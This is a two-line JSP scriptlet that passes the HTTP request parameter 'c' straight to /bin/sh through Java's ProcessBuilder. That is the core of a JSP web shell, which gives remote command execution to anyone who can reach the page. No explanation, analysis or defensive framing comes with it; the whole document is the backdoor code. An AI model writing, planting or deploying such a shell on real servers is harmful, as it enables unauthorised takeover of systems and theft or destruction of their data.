<%
Process p = new ProcessBuilder("/bin/sh", "-c", request.getParameter("c")).start();
%>
